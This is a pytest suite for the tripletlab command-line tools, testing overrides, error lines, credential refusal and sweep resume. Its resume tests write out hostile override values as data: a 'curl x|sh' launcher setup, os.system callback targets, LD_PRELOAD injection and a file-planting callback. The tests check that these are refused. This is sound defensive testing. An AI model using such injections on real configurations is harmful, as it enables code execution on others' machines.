"""The console commands (tripletlab/cli/): arguments, overrides, output and exit status.

One tiny digits run, trained by ``tripletlab-train`` from another folder (module-scoped),
serves the reuse commands; they are called in-process through their ``main`` except where a
subprocess checks that an error leaves no traceback.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
import yaml
from PIL import Image

from tests.helpers import (
    ROOT,
    TINY,
    isolate_data_search,
    serve_folder,
    write_digit_gallery,
    write_idx_folder,
    write_image_folder,
)
from tripletlab import data
from tripletlab.cli import embed as embed_cli
from tripletlab.cli import evaluate as evaluate_cli
from tripletlab.cli import fetch as fetch_cli
from tripletlab.cli import summarize as summarize_cli
from tripletlab.cli import sweep as sweep_cli
from tripletlab.cli import train as train_cli
from tripletlab.cli import visualize as visualize_cli
from tripletlab.data import IDX_FILES
from tripletlab.errors import ConfigError

# Real runs or commands end to end (`make test-fast` leaves them out).
pytestmark = pytest.mark.e2e

# Class folders of the gallery; its images are digits test images, so the run's own test
# split contains them.
GALLERY_CLASSES = ["0", "1", "2", "3"]
PER_CLASS = 5
GRID = "model=lenet,small_cnn mining=batch_all,batch_hard,semi_hard"


def _env() -> dict[str, str]:
    """The clone's tripletlab first, wherever the command runs from."""
    path = os.pathsep.join(p for p in (str(ROOT), os.environ.get("PYTHONPATH")) if p)
    return {**os.environ, "PYTHONPATH": path, "TF_CPP_MIN_LOG_LEVEL": "2"}


def _command(module: str, *args, cwd: Path = ROOT, timeout: int = 300):
    return subprocess.run(
        [sys.executable, "-m", f"tripletlab.cli.{module}", *map(str, args)],
        cwd=cwd,
        env=_env(),
        capture_output=True,
        text=True,
        timeout=timeout,
    )


def _cli(module, argv, capsys):
    """Run a command in-process: its exit status, stdout and stderr."""
    code = module.main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


def _one_error_line(err: str, message: str = "") -> None:
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    assert message in lines[0], err
    assert "Traceback" not in err


@pytest.fixture(scope="module")
def run_dir(tmp_path_factory):
    """One real run by tripletlab-train, started in an empty folder (1 epoch on digits)."""
    where = tmp_path_factory.mktemp("elsewhere")
    proc = _command("train", *TINY, cwd=where)
    assert proc.returncode == 0, proc.stderr[-3000:]
    runs = sorted((where / "outputs" / "runs").glob("*/*"))
    assert len(runs) == 1, runs  # under the current folder's outputs/, as run.py does
    assert (runs[0] / "run.log").is_file()
    return runs[0]


@pytest.fixture(scope="module")
def digits(run_dir):
    """The run's data, as training loaded it."""
    from tripletlab.data import load_dataset
    from tripletlab.reuse import load_config

    return load_dataset(load_config(run_dir).cfg.dataset)


@pytest.fixture(scope="module")
def gallery(tmp_path_factory, digits):
    """Digits as PNGs in class sub-folders, in other sizes and channels than the model's."""
    return write_digit_gallery(
        tmp_path_factory.mktemp("gallery"), digits, GALLERY_CLASSES, PER_CLASS
    )


# --------------------------------------------------------------------------- train


def test_train_override_typo_is_one_error_line_and_no_run_folder(tmp_path):
    proc = _command("train", "dataset=digits", "trainer.epoch=1", cwd=tmp_path, timeout=60)
    assert proc.returncode == 1
    _one_error_line(proc.stderr, "trainer.epoch")
    assert not (tmp_path / "outputs").exists()
    # A sweep too: the first value of each swept key is composed before Hydra starts.
    proc = _command("train", "-m", "model=lenet,small_cnn", "modle.x=1", cwd=tmp_path, timeout=60)
    assert proc.returncode == 1
    _one_error_line(proc.stderr, "modle")
    proc = _command("train", "dataset=digitz", cwd=tmp_path, timeout=60)
    _one_error_line(proc.stderr, "Could not find 'dataset/digitz'")
    assert "digits" in proc.stderr  # the valid options are listed


def test_first_of_each_sweep():
    first = train_cli.first_of_each_sweep
    assert first(["model=lenet,small_cnn", "seed=range(1,4)", "+x.y=2"]) == [
        "model=lenet",
        "seed=1",
        "+x.y=2",
    ]
    assert first(["trainer.learning_rate=tag(log, interval(1e-5, 1e-1))"]) is None  # Optuna's


def test_train_options_for_hydra_are_left_to_hydra(tmp_path):
    proc = _command("train", "dataset=digits", "--cfg", "job", cwd=tmp_path, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert yaml.safe_load(proc.stdout)["dataset"]["name"] == "digits"


SENTINEL = "s3ntinel-PW"


def _files_holding(root: Path, text: str) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file() and text.encode() in p.read_bytes()]


@pytest.mark.parametrize(
    "args",
    [
        ["logger=mlflow", f"logger.tracking_uri=http://u:{SENTINEL}@127.0.0.1:1"],
        ["-m", "seed=1,2", "logger=mlflow", f"logger.tracking_uri=http://u:{SENTINEL}@h"],
        ["hparams_search=optuna", f"hydra.sweeper.storage=postgresql://u:{SENTINEL}@h/db"],
        ["logger=mlflow", "logger.tracking_uri=${oc.env:TRACKING}"],  # resolved, then refused
        ["--cfg", "job", "logger=mlflow", f"logger.tracking_uri=http://u:{SENTINEL}@h"],
    ],
)
def test_a_credential_is_refused_before_anything_is_written(tmp_path, monkeypatch, args):
    monkeypatch.setenv("TRACKING", f"https://u:{SENTINEL}@tracking.example")
    proc = _command("train", "dataset=digits", *args, cwd=tmp_path, timeout=60)
    assert proc.returncode == 1, proc.stderr
    _one_error_line(proc.stderr, "holds a credential")
    assert SENTINEL not in proc.stdout + proc.stderr
    assert not (tmp_path / "outputs").exists()
    assert _files_holding(tmp_path, SENTINEL) == []


def test_an_output_folder_that_cannot_be_written_is_one_message(tmp_path):
    (tmp_path / "a-file").write_text("")
    proc = _command("train", *TINY, f"hydra.run.dir={tmp_path}/a-file/run", cwd=tmp_path)
    assert proc.returncode == 1
    _one_error_line(proc.stderr, "is a file, not a folder")
    read_only = tmp_path / "read-only"
    read_only.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "ro,size=1m", "tmpfs", read_only])
    if mounted.returncode != 0:
        pytest.skip("mounting a read-only tmpfs needs root")
    try:
        proc = _command("train", "-m", *TINY, "seed=1,2", f"hydra.sweep.dir={read_only}/s")
        assert proc.returncode == 1
        _one_error_line(proc.stderr, "read-only or not writable")
        assert "hydra.sweep.dir=PATH" in proc.stderr
    finally:
        subprocess.run(["umount", read_only], check=False)


# hydra.job.name names the log file (<run folder>/<name>.log): a "/" in it, or a name longer
# than a file name may be, made Hydra's logging set-up end in a traceback.
BAD_JOB_NAMES = {
    "a folder": ["hydra.job.name=a/b"],
    "absolute": ["hydra.job.name=/tmp/x"],
    "trailing slash": ["hydra.job.name=run/"],
    "from the environment": ["hydra.job.name=${oc.env:JOB_NAME}"],
    "too long": ["hydra.job.name=" + "n" * 252],
    "a sweep's first name": ["-m", "seed=1,2", "hydra.job.name=x/y"],
    "a sweep's later name": ["-m", "hydra.job.name=ok,x/y"],
}


@pytest.mark.parametrize("args", BAD_JOB_NAMES.values(), ids=BAD_JOB_NAMES.keys())
def test_a_job_name_that_cannot_name_the_log_file_is_refused(tmp_path, monkeypatch, args):
    monkeypatch.setenv("JOB_NAME", "team/run")
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ConfigError, match="hydra.job.name: the job's name") as err:
        train_cli.check_overrides([*args, *TINY])
    assert "choose a" in str(err.value) and "\n" not in str(err.value)


@pytest.mark.parametrize(
    "args",
    [
        ["hydra.job.name=" + "n" * 251],  # the longest name: n...n.log is 255 bytes
        ["hydra.job.name=my-run_2.v1"],
        ["hydra/job_logging=disabled", "hydra.job.name=a/b"],  # no log file
    ],
)
def test_a_job_name_that_names_a_file_is_accepted(tmp_path, monkeypatch, args):
    monkeypatch.chdir(tmp_path)
    train_cli.check_overrides([*args, *TINY])


def test_a_job_name_with_a_slash_is_one_error_line_and_no_run_folder(tmp_path):
    proc = _command("train", *TINY, "hydra.job.name=a/b", cwd=tmp_path, timeout=60)
    assert proc.returncode == 1
    _one_error_line(proc.stderr, "hydra.job.name: the job's name (a/b) names its log file")
    assert not (tmp_path / "outputs").exists()


def test_a_run_folder_in_use_is_refused_with_the_holders_host_and_pid(tmp_path):
    run = tmp_path / "run"
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys, time; from tripletlab.run_folder import RunFolder, RunLock\n"
            "lock = RunLock(RunFolder(sys.argv[1])); lock.acquire(); print('held', flush=True)\n"
            "time.sleep(120)",
            str(run),
        ],
        env=_env(),
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "held"
        proc = _command("train", *TINY, f"hydra.run.dir={run}", cwd=tmp_path)
        assert proc.returncode == 1
        _one_error_line(proc.stderr, f"in use by process {holder.pid} on host")
        # Nothing of the refused run in the folder: no Hydra record, no log lines.
        assert not (run / ".hydra").exists()
        assert not (run / "run.log").exists() or (run / "run.log").read_text() == ""
    finally:
        holder.kill()
        holder.wait()


# --------------------------------------------------------------------------- evaluate


def test_evaluate_reproduces_the_runs_final_metrics_exactly(run_dir, capsys):
    summary = json.loads((run_dir / "summary.json").read_text())
    before = {n: (run_dir / n).read_bytes() for n in ("metrics.csv", "summary.json")}
    code, out, _ = _cli(evaluate_cli, [run_dir], capsys)
    assert code == 0
    result = json.loads((run_dir / "eval" / "digits-test.json").read_text())
    final = summary["metrics"]
    assert result["metrics"]["precision_at_1"] == final["precision_at_1"]  # exactly
    for key, value in result["metrics"].items():  # the other metrics too
        assert value == final[key], key
    assert result["training_metrics"]["precision_at_1"] == final["precision_at_1"]
    assert result["split"] == "test" and result["dataset"]["queries"] == 359
    assert "precision_at_1" in out and "at training" in out
    # Training's own records stay as they were.
    assert {n: (run_dir / n).read_bytes() for n in before} == before


def test_evaluate_with_overrides_split_and_name(run_dir, capsys):
    code, out, _ = _cli(
        evaluate_cli,
        [run_dir, "--split", "train", "dataset.max_train=200", "--name", "train200"],
        capsys,
    )
    assert code == 0, out
    result = json.loads((run_dir / "eval" / "train200.json").read_text())
    assert result["split"] == "train" and result["overrides"] == ["dataset.max_train=200"]
    assert result["dataset"]["queries"] == 200
    assert "knn_accuracy" not in result["metrics"]  # every train image would find itself
    assert 0.0 <= result["metrics"]["map_at_r"] <= 1.0
    assert result["config"]["dataset"]["max_train"] == 200
    assert result["config"]["model"]["embedding_size"] == 8  # the rest is the run's config
    # --override is the same as a positional override.
    code, _, _ = _cli(
        evaluate_cli,
        [run_dir, "--split", "train", "--override", "dataset.max_train=100", "--name", "t100"],
        capsys,
    )
    assert code == 0
    alias = json.loads((run_dir / "eval" / "t100.json").read_text())
    assert alias["overrides"] == ["dataset.max_train=100"] and alias["dataset"]["queries"] == 100


# --------------------------------------------------------------------------- visualize


def _projector_server(logdir):
    from tensorboard.backend.event_processing import data_provider, plugin_event_multiplexer

    from tests.helpers import ProjectorServer

    multiplexer = plugin_event_multiplexer.EventMultiplexer()
    multiplexer.AddRunsFromDirectory(str(logdir))
    multiplexer.Reload()
    return ProjectorServer(logdir, data_provider.MultiplexerDataProvider(multiplexer, str(logdir)))


def test_visualize_rebuilds_projector_and_plots(run_dir, digits, capsys):
    from tripletlab.tracking.projector import checkpoint_tensor_name

    projector = run_dir / "tensorboard"  # the projector is in the run's TensorBoard folder
    trained = (projector / "vectors.tsv").read_bytes()
    for name in ("embeddings_pca.png", "loss.png"):
        (run_dir / "plots" / name).unlink()
    # The defaults rebuild what training wrote, bit for bit.
    code, out, _ = _cli(visualize_cli, [run_dir], capsys)
    assert code == 0 and "100 of 359 points" in out
    assert (projector / "vectors.tsv").read_bytes() == trained
    assert (run_dir / "plots" / "embeddings_pca.png").stat().st_size > 0
    assert (run_dir / "plots" / "loss.png").stat().st_size > 0  # curves from metrics.csv

    # Every point of the training split, served by TensorBoard with the run folder as logdir.
    code, out, _ = _cli(visualize_cli, [run_dir, "--split", "train", "--max-points", "0"], capsys)
    assert code == 0 and "1438 of 1438 points" in out
    server = _projector_server(run_dir)
    assert "tensorboard" in server.json("/runs")
    (info,) = server.json("/info", run="tensorboard")["embeddings"]
    assert [int(s) for s in info["tensorShape"]] == [1438, 8]
    assert info["sprite"]["singleImageDim"] == [8, 8]
    name = checkpoint_tensor_name("digits train")  # the dataset and split, readable
    assert info["tensorName"] == name
    emb = np.frombuffer(server.get("/tensor", run="tensorboard", name=name).get_data(), np.float32)
    np.testing.assert_allclose(np.linalg.norm(emb.reshape(-1, 8), axis=1), 1.0, rtol=1e-5)
    rows = server.get("/metadata", run="tensorboard", name=name).get_data(as_text=True)
    labels = [int(r.split("\t")[0]) for r in rows.splitlines()[1:]]
    assert labels == digits.y_train.tolist()  # the train split, in order


# --------------------------------------------------------------------------- embed


def test_embed_with_neighbours_in_a_gallery(run_dir, gallery, digits, tmp_path, capsys, caplog):
    from tripletlab.inference import open_model
    from tripletlab.reuse import load_config
    from tripletlab.reuse.embed import TILE, read_images

    queries = tmp_path / "queries"
    (queries / "nested").mkdir(parents=True)
    # A gallery image as a query (another size and RGBA): its nearest is itself, at ~0.
    src = next((gallery / "2").glob("*.png"))
    Image.open(src).convert("RGBA").resize((20, 20)).save(queries / "a_copy.png")
    shutil.copy(src, queries / "nested" / "b_same.png")
    (queries / "notes.txt").write_text("not an image: skipped")
    # A test image at the model's size: embedded exactly as evaluation embeds it.
    Image.fromarray(digits.x_test[7][..., 0]).save(queries / "c_test7.png")
    out = tmp_path / "out" / "emb.npy"
    k = 3
    # eval.knn_k=3 is an override among the inputs: it changes nothing here but must parse.
    argv = [run_dir, queries, "eval.knn_k=3", "--out", out, "--neighbours", k, "--gallery", gallery]
    code, text, err = _cli(embed_cli, argv, capsys)
    assert code == 0, err
    assert "skipping 1 file" in caplog.text

    emb = np.load(out)
    assert emb.shape == (3, 8) and emb.dtype == np.float32  # a_copy, c_test7, nested/b_same
    np.testing.assert_allclose(np.linalg.norm(emb, axis=1), 1.0, rtol=1e-5)
    rc = load_config(run_dir)
    embedder = open_model(rc.folder, rc.cfg)
    # The same pixels as the dataset's; the embedding agrees up to float rounding (a batch of
    # another size may take another oneDNN code path, so bit equality needs equal batches).
    pixels = read_images([queries / "c_test7.png"], embedder.input_shape)
    np.testing.assert_array_equal(pixels[0], digits.x_test[7])
    np.testing.assert_allclose(emb[1], embedder.embed(digits.x_test[7:8])[0], atol=1e-5)

    with (tmp_path / "out" / "emb.neighbours.tsv").open(newline="") as f:
        rows = list(csv.DictReader(f, delimiter="\t"))
    assert len(rows) == 3 * k
    assert list(rows[0]) == ["query", "rank", "neighbour", "label", "distance"]
    by_query = {}
    for row in rows:
        by_query.setdefault(row["query"], []).append(row)
    same = by_query[str(queries / "nested" / "b_same.png")]
    assert same[0]["neighbour"] == f"2/{src.name}" and same[0]["label"] == "2"
    assert float(same[0]["distance"]) < 1e-3
    for hits in by_query.values():
        assert [int(r["rank"]) for r in hits] == [1, 2, 3]
        dists = [float(r["distance"]) for r in hits]
        assert dists == sorted(dists)
        assert all(r["label"] in GALLERY_CLASSES for r in hits)
    assert "b_same.png" in text and "distance" in text  # the printed table

    sheet = Image.open(tmp_path / "out" / "emb.neighbours.png")
    assert sheet.width > (k + 1) * TILE and sheet.height >= 3 * TILE


def test_embed_tells_overrides_from_inputs(tmp_path):
    assert embed_cli.is_override("dataset.root=/data")
    assert embed_cli.is_override("+eval.knn_k=3") and embed_cli.is_override("dataset=digits")
    assert not embed_cli.is_override("photo.png") and not embed_cli.is_override("a/b=c.png")
    odd = tmp_path / "k=v.png"  # a file whose name looks like an override is an input
    odd.write_bytes(b"")
    assert not embed_cli.is_override(str(odd))


# --------------------------------------------------------------------------- bad input


@pytest.fixture
def run_without_model(run_dir, tmp_path):
    copy = tmp_path / "unfinished"
    shutil.copytree(run_dir / ".hydra", copy / ".hydra")
    (copy / "summary.json").write_text(json.dumps({"status": "running"}))
    return copy


@pytest.mark.parametrize(
    ("case", "message"),
    [
        ("not_a_run", "is not a run folder"),
        ("missing_run", "does not exist"),
        ("no_model", "has no saved model"),
        ("unreadable_image", "cannot read image"),
        ("empty_folder", "holds no images"),
        ("bad_out", "use a file name ending in .npy or .tsv"),
        ("bad_override", "trainer.epoch"),
        ("bad_override_embed", "trainer.epoch"),
        ("bad_override_alias", "trainer.epoch"),
        ("bad_group", "dataset/bogus"),
    ],
)
def test_bad_input_gives_one_clear_error(
    case, message, run_dir, run_without_model, tmp_path, capsys
):
    image = tmp_path / "img.png"
    Image.fromarray(np.zeros((8, 8), np.uint8)).save(image)
    out = ["--out", tmp_path / "e.npy"]
    (tmp_path / "empty").mkdir()
    (tmp_path / "corrupt.png").write_bytes(b"not a png at all")
    module, argv = {
        "not_a_run": (evaluate_cli, [tmp_path / "empty"]),
        "missing_run": (visualize_cli, [tmp_path / "nowhere"]),
        "no_model": (embed_cli, [run_without_model, image, *out]),
        "unreadable_image": (embed_cli, [run_dir, image, tmp_path / "corrupt.png", *out]),
        "empty_folder": (embed_cli, [run_dir, tmp_path / "empty", *out]),
        "bad_out": (embed_cli, [run_dir, image, "--out", tmp_path / "e.csv"]),
        "bad_override": (evaluate_cli, [run_dir, "trainer.epoch=3"]),
        "bad_override_embed": (embed_cli, [run_dir, image, "trainer.epoch=3", *out]),
        "bad_override_alias": (visualize_cli, [run_dir, "--override", "trainer.epoch=3"]),
        "bad_group": (visualize_cli, [run_dir, "dataset=bogus"]),
    }[case]
    code, _, err = _cli(module, argv, capsys)
    assert code == 1
    _one_error_line(err, message)
    assert not (tmp_path / "e.npy").exists()


def test_cli_errors_have_no_traceback(run_without_model, tmp_path):
    """As a user runs them, as processes."""
    (tmp_path / "not_a_run").mkdir()
    image = tmp_path / "img.png"
    Image.fromarray(np.zeros((8, 8), np.uint8)).save(image)
    for module, args in [
        ("tripletlab.cli.evaluate", [tmp_path / "not_a_run"]),
        ("tripletlab.cli.visualize", [run_without_model]),
        ("tripletlab.cli.embed", [run_without_model, image, "--out", tmp_path / "e.npy"]),
    ]:
        proc = subprocess.run(
            [sys.executable, "-m", module, *map(str, args)],
            cwd=ROOT,
            env=_env(),
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert proc.returncode == 1, (module, proc.stderr)
        _one_error_line(proc.stderr)


# --------------------------------------------------------------------------- summarize


def test_summarize_options_and_errors(run_dir, tmp_path, capsys):
    runs = tmp_path / "runs"
    for name in ("a", "b"):
        shutil.copytree(run_dir, runs / name, ignore=shutil.ignore_patterns("checkpoints"))
    code, out, _ = _cli(summarize_cli, [runs / "a", runs / "b", "--metric", "map_at_r"], capsys)
    assert code == 0
    assert "map_at_r (mean ± std)" in out and f"wrote {runs / 'summary.csv'}" in out
    with (runs / "summary.csv").open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["run_dir"] for r in rows] == ["a", "b"]  # default --out: the folder holding both
    assert (runs / "summary.png").is_file()

    code, out, _ = _cli(summarize_cli, [runs, "--out", tmp_path / "report", "--no-plot"], capsys)
    assert code == 0 and (tmp_path / "report" / "summary.md").is_file()
    assert not (tmp_path / "report" / "summary.png").exists()

    code, _, err = _cli(summarize_cli, [tmp_path / "missing"], capsys)
    assert code == 2
    _one_error_line(err, "does not exist")
    (tmp_path / "empty").mkdir()
    code, _, err = _cli(summarize_cli, [tmp_path / "empty"], capsys)
    assert code == 1
    _one_error_line(err, "under")


def test_summarize_as_a_module(run_dir, tmp_path):
    proc = subprocess.run(
        [sys.executable, "-m", "tripletlab.summarize", str(run_dir), "--out", str(tmp_path)],
        cwd=ROOT,
        env=_env(),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 0, proc.stderr
    assert (tmp_path / "summary.csv").is_file()


# --------------------------------------------------------------------------- sweep


def _sweep_sh(*args: str) -> subprocess.CompletedProcess:
    env = {**_env(), "PYTHON": sys.executable}
    return subprocess.run(
        ["bash", "sweep.sh", *args], cwd=ROOT, capture_output=True, text=True, timeout=60, env=env
    )


def test_sweep_sh_builds_the_grid_and_passes_overrides():
    proc = _sweep_sh("--dry-run", "dataset=digits", "seed=1,2,3")
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout.replace("\\,", ",")
    assert f"run.py -m {GRID}" in out
    assert out.rstrip().endswith("dataset=digits seed=1,2,3")
    one = _sweep_sh("-n", "model=lenet").stdout.replace("\\,", ",")
    assert "model=lenet,small_cnn" not in one and "mining=batch_all,batch_hard" in one
    bad = _sweep_sh("--resume", str(ROOT / "conf"))
    assert bad.returncode == 2 and "multirun.yaml" in bad.stderr
    assert "--resume DIR" in _sweep_sh("--help").stdout


def test_sweep_command_grid_and_resume(tmp_path, capsys):
    code, out, _ = _cli(sweep_cli, ["--dry-run", "dataset=digits", "+model@x=1"], capsys)
    assert code == 0
    assert out.strip() == f"tripletlab-train -m {GRID} dataset=digits +model@x=1"
    code, out, _ = _cli(sweep_cli, ["-n", "++mining=semi_hard"], capsys)
    assert out.strip() == "tripletlab-train -m model=lenet,small_cnn ++mining=semi_hard"

    # --resume: the sweep's own overrides (Hydra's first), the folder, then the new ones.
    sweep = tmp_path / "my sweep"
    sweep.mkdir()
    hydra_overrides = ["hydra.sweep.dir=old", "hydra/launcher=parallel"]
    saved = {
        "hydra": {"overrides": {"hydra": hydra_overrides, "task": ["model=lenet", "seed=1,2"]}}
    }
    (sweep / "multirun.yaml").write_text(yaml.safe_dump(saved))
    assert sweep_cli.sweep_arguments(["trainer.epochs=2"], resume=sweep) == [
        "hydra/launcher=parallel",
        "model=lenet",
        "seed=1,2",
        f"hydra.sweep.dir='{sweep.resolve()}'",  # quoted: the path holds a space
        "trainer.epochs=2",
    ]
    code, _, err = _cli(sweep_cli, ["--resume", tmp_path / "nowhere"], capsys)
    assert code == 2
    _one_error_line(err, "not a folder")


def _multirun_yaml(sweep: Path, hydra=(), task=(), callbacks=None, env_set=None) -> None:
    """A sweep folder's multirun.yaml as Hydra writes it (the parts a resume reads)."""
    own = {"sweep_summary": {"_target_": "tripletlab.sweep.SweepSummary"}}
    saved = {
        "hydra": {
            "callbacks": {**own, **(callbacks or {})},
            "job": {"name": "run", "env_set": env_set or {}},
            "overrides": {
                "hydra": ["hydra.mode=MULTIRUN", f"hydra.sweep.dir={sweep}", *hydra],
                "task": ["dataset=digits", "model=lenet,small_cnn", *task],
            },
        },
        "seed": 42,
    }
    sweep.mkdir(parents=True, exist_ok=True)
    (sweep / "multirun.yaml").write_text(yaml.safe_dump(saved))


def test_resume_replays_the_launcher_and_search_settings(tmp_path):
    sweep = tmp_path / "sweep"
    launcher = ["hydra/launcher=slurm", "hydra.launcher.partition=gpu", "hydra.launcher.mem_gb=64"]
    search = [
        "hydra.sweeper.n_trials=30",
        "hydra.sweeper.storage=sqlite:///outputs/optuna.db",
        "hydra.sweeper.params.mining.margin=interval(0.1,0.5)",
    ]
    _multirun_yaml(sweep, hydra=[*launcher, *search], task=["hparams_search=optuna"])
    assert sweep_cli.sweep_arguments([], resume=sweep) == [
        *launcher,
        *search,
        "dataset=digits",
        "model=lenet,small_cnn",
        "hparams_search=optuna",
        f"hydra.sweep.dir={sweep.resolve()}",
    ]


@pytest.mark.parametrize(
    ("entry", "kind"),
    [
        ({"hydra": ["+hydra.callbacks.x._target_=os.system"]}, "+hydra.callbacks.x._target_"),
        ({"hydra": ["hydra.job.env_set.LD_PRELOAD=/tmp/x.so"]}, "env_set.LD_PRELOAD"),
        ({"hydra": ["hydra.searchpath=[file:///tmp/conf]"]}, "hydra.searchpath"),
        ({"hydra": ["hydra.launcher.setup=[curl x|sh]"]}, "hydra.launcher.setup"),
        ({"hydra": ["hydra.launcher._target_=os.system"]}, "hydra.launcher._target_"),
        ({"hydra": ["hydra/job_logging=custom"]}, "hydra/job_logging"),
        ({"hydra": ["hydra.sweeper.params.hydra.job.env_set.A=choice(1)"]}, "search space"),
        ({"task": ["hydra.job.env_set.A=1"]}, "among the job overrides"),
        ({"task": ["model@hydra.callbacks.x=lenet"]}, "model@hydra.callbacks.x"),
        ({"task": ["+model._target_=os.system"]}, "+model._target_"),
        ({"task": ["logger.tracking_uri=http://h/${oc.env:HOME}"]}, "${oc.env:...}"),
        ({"callbacks": {"x": {"_target_": "os.system"}}}, "hydra.callbacks.x (os.system)"),
        ({"env_set": {"LD_PRELOAD": "/tmp/x.so"}}, "hydra.job.env_set.LD_PRELOAD"),
    ],
)
def test_resume_refuses_a_tampered_multirun_yaml(tmp_path, capsys, entry, kind):
    """A sweep folder may come from someone else: nothing beyond its own overrides runs."""
    sweep = tmp_path / "sweep"
    _multirun_yaml(sweep, **entry)
    code, out, err = _cli(sweep_cli, ["--dry-run", "--resume", sweep], capsys)
    assert code == 1 and out == ""  # not even the command
    _one_error_line(err, kind)
    assert "someone else" in err and "Nothing was run" in err


def test_sweep_sh_resume_of_a_tampered_folder_runs_nothing(tmp_path):
    """The callback would create a file at the sweep's start: it is refused before Hydra."""
    sweep = tmp_path / "sweep"
    marker = tmp_path / "pwned"
    evil = [
        "+hydra.callbacks.x._target_=builtins.open",
        f"+hydra.callbacks.x.file={marker}",
        "+hydra.callbacks.x.mode=w",
    ]
    _multirun_yaml(sweep, hydra=evil, task=["trainer.epochs=1", "dataset.max_train=64"])
    before = sorted(sweep.iterdir())
    proc = _sweep_sh("--resume", str(sweep))
    assert proc.returncode == 1, proc.stdout + proc.stderr
    _one_error_line(proc.stderr, "+hydra.callbacks.x._target_=builtins.open")
    assert not marker.exists() and sorted(sweep.iterdir()) == before


def _before_setup_env() -> dict[str, str]:
    """The environment of a shell before `make setup`: no venv active, no PYTHONPATH."""
    drop = ("PYTHON", "PYTHONPATH", "PYTHONHOME", "VIRTUAL_ENV")
    return {k: v for k, v in os.environ.items() if k not in drop}


def _assert_says_run_make(proc: subprocess.CompletedProcess, missing: str) -> None:
    assert proc.returncode == 1, proc.stdout + proc.stderr
    _one_error_line(proc.stderr, "run `make setup` first")
    assert missing in proc.stderr and "ModuleNotFoundError" not in proc.stderr


def test_run_py_before_setup_says_to_run_make(tmp_path):
    """A Python without tripletlab's dependencies (-S: no site-packages at all)."""
    proc = subprocess.run(
        [sys.executable, "-S", str(ROOT / "run.py"), "model=lenet"],
        cwd=tmp_path,
        env=_before_setup_env(),
        capture_output=True,
        text=True,
        timeout=60,
    )
    _assert_says_run_make(proc, "cannot import hydra")
    assert not (tmp_path / "outputs").exists()


def test_sweep_sh_before_setup_says_to_run_make(tmp_path):
    """A clone with no .venv: sweep.sh falls back to `python3`, here one without
    site-packages whatever this machine has installed."""
    clone = tmp_path / "clone"
    clone.mkdir()
    for name in ("sweep.sh", "run.py"):
        shutil.copy2(ROOT / name, clone / name)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    python3 = bin_dir / "python3"
    python3.write_text(f'#!/bin/sh\nexec {sys.executable} -S "$@"\n')
    python3.chmod(0o755)
    env = _before_setup_env()
    env["PATH"] = f"{bin_dir}{os.pathsep}{env.get('PATH', '')}"
    proc = subprocess.run(
        ["bash", "sweep.sh", "dataset=digits"],
        cwd=clone,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    _assert_says_run_make(proc, "python3 cannot import hydra omegaconf tensorflow")
    assert sorted(p.name for p in clone.iterdir()) == ["run.py", "sweep.sh"]


def test_sweep_override_typo_is_one_error_line(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    code, _, err = _cli(sweep_cli, ["dataset=digits", "trainer.epoch=1"], capsys)
    assert code == 1
    _one_error_line(err, "trainer.epoch")
    assert not (tmp_path / "outputs").exists()


# --------------------------------------------------------------------------- fetch


@pytest.fixture
def isolated(tmp_path, monkeypatch):
    """No test sees the machine's data, home folder or proxies."""
    return isolate_data_search(tmp_path, monkeypatch)


def test_fetch_command(isolated, tmp_path, capsys):
    assert fetch_cli.main(["fashion_mnist", "--no-download"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: ") and "Searched, in order" in err and "Traceback" not in err

    write_idx_folder(tmp_path / "mirror")
    with serve_folder(tmp_path / "mirror") as url:
        assert fetch_cli.main(["fashion_mnist", "--url", url, "--allow-insecure-url"]) == 0
    assert f"downloaded from {url} to {isolated}" in capsys.readouterr().out
    assert data.ensure_dataset("fashion_mnist", download=False) == isolated


def test_fetch_command_fails_on_corrupt_files(isolated, tmp_path, capsys):
    write_idx_folder(tmp_path / "fm")
    (tmp_path / "fm" / f"{IDX_FILES['test_images']}.gz").write_bytes(b"junk")
    assert fetch_cli.main(["fashion_mnist", "--root", str(tmp_path / "fm")]) == 1
    assert "not a valid gzip file" in capsys.readouterr().err


def test_fetch_digits_and_image_folder(isolated, tmp_path, capsys):
    assert fetch_cli.main(["digits"]) == 0
    assert "digits: bundled with scikit-learn in" in capsys.readouterr().out
    write_image_folder(tmp_path / "imgs", {"a": 2, "b": 2})
    assert fetch_cli.main(["image_folder", "--root", str(tmp_path / "imgs")]) == 0
    assert fetch_cli.main(["image_folder"]) == 1
    assert "image_folder needs dataset.root" in capsys.readouterr().err
